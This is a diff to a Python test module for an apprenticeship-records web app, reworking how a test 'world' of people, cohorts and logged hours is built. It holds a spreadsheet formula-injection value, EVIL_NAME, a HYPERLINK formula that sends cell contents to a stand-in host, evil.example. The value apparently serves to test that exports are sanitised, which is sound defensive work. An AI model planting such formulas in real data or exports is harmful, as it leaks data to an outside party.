@@ -24,7 +24,7 @@ from pathways.models import (
     Post,
 )
 from tests.domain.test_exports import read_xlsx
-from tests.recipes import SEED_PATHWAY, holding
+from tests.recipes import SEED_PATHWAY, ids_of, world_on, world_or_pathway
 from tests.web.sessions import start_session
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
@@ -45,40 +45,44 @@ BAD_CSV = (HEADER
            ).encode()
 
 
-@pytest.fixture
-def database_url(request, database_for):
-    """A database of its own holding the seed pathway (and people), for ``make_cohort_world``."""
-    return database_for(holding(request, SEED_PATHWAY))
-
-
-@pytest.fixture
-def world(app, people):
+def build_world(session, people: dict) -> dict:
     """Build the world of the module docstring; return ids by name."""
     from pathways.apprenticeships.posts import create_post
     from pathways.apprenticeships.records import log_hours, review_entry
     from pathways.apprenticeships.setup import enrol
     from pathways.people.accounts import create_person
     from tests.factories import make_cohort_world
-    from webapp.extensions import db
 
-    with app.app_context():
-        session = db.session
-        world = make_cohort_world(session, people={key: session.get(Person, value)
-                                                   for key, value in people.items()})
-        world["staff"].name = EVIL_NAME
-        apprenticeship = enrol(session, world["cohort"], world["staff"],
-                               start_date=date(2025, 9, 1), planned_end_date=date(2028, 8, 31),
-                               weekly_hours=37.5, post=world["post"], actor=world["lnd"])
-        review_entry(session, log_hours(session, apprenticeship, worked_on=date(2025, 10, 1),
-                                        hours="7.5", activity="taught", note=EVIL_NOTE,
-                                        actor=world["staff"]), "approved", actor=world["lnd"])
-        create_post(session, world["staff"].organisation, reference="SW-102",
-                    role_id="newly-qualified-social-worker")
-        far_lnd = create_person(session, email="far_lnd@example.org", name="Far L&D",
-                                organisation=world["outsider"].organisation, roles=["lnd"])
-        session.commit()
-        return {**people, "cohort": world["cohort"].id, "apprenticeship": apprenticeship.id,
-                "far_lnd": far_lnd.id}
+    world = make_cohort_world(session, people=people)
+    world["staff"].name = EVIL_NAME
+    apprenticeship = enrol(session, world["cohort"], world["staff"],
+                           start_date=date(2025, 9, 1), planned_end_date=date(2028, 8, 31),
+                           weekly_hours=37.5, post=world["post"], actor=world["lnd"])
+    review_entry(session, log_hours(session, apprenticeship, worked_on=date(2025, 10, 1),
+                                    hours="7.5", activity="taught", note=EVIL_NOTE,
+                                    actor=world["staff"]), "approved", actor=world["lnd"])
+    create_post(session, world["staff"].organisation, reference="SW-102",
+                role_id="newly-qualified-social-worker")
+    far_lnd = create_person(session, email="far_lnd@example.org", name="Far L&D",
+                            organisation=world["outsider"].organisation, roles=["lnd"])
+    session.flush()
+    return {**ids_of(people), "cohort": world["cohort"].id, "apprenticeship": apprenticeship.id,
+            "far_lnd": far_lnd.id}
+
+
+#: Built once per process and engine (see ``tests.recipes.world_on``).
+WORLD = world_on(SEED_PATHWAY, "cohort_files", build_world)
+
+
+@pytest.fixture
+def database_url(request, database_for):
+    """The world for a test that asks for it, else the pathway (and people if used)."""
+    return world_or_pathway(request, database_for, WORLD, SEED_PATHWAY)
+
+
+@pytest.fixture
+def world(recipe_made, database_url):
+    return recipe_made(WORLD)
 
 
 @pytest.fixture
